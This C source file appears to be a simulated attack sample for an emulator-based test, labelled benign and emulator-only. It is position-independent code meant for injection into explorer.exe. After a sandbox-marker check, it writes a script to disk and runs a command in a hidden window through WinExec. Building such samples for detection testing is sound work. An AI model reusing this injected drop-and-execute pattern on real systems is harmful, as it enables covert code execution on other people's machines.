/*
 * dropscript.c - combo-sideload-inject: the code injected into explorer.exe (benign,
 * emulator-only). Position independent, one function, no data; its context block is its thread's
 * parameter. Checks the sandbox marker, writes ctx->script to ctx->script_path and runs
 * ctx->command with WinExec ("cmd.exe /c SCRIPT && powershell ...").
 * Returns 0 ok, 1 no marker, 2 file, 3 start.
 */
#include "script.h"

DWORD WINAPI sc_main(struct script_ctx *c)
{
    char buf[16];
    DWORD n, i, len, written = 0;
    HANDLE h;
    n = c->pGetEnvironmentVariableA(c->marker_name, buf, sizeof(buf));
    for (i = 0; i < n && c->marker_value[i] && buf[i] == c->marker_value[i]; i++)
        ;
    if (n == 0 || i != n || c->marker_value[i])
        return 1;
    h = c->pCreateFileA(c->script_path, GENERIC_WRITE, 0, 0, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, 0);
    if (h == INVALID_HANDLE_VALUE)
        return 2;
    for (len = 0; c->script[len]; len++)
        ;
    c->pWriteFile(h, c->script, len, &written, 0);
    c->pCloseHandle(h);
    if (c->pWinExec(c->command, SW_HIDE) <= 31)
        return 3;
    return 0;
}
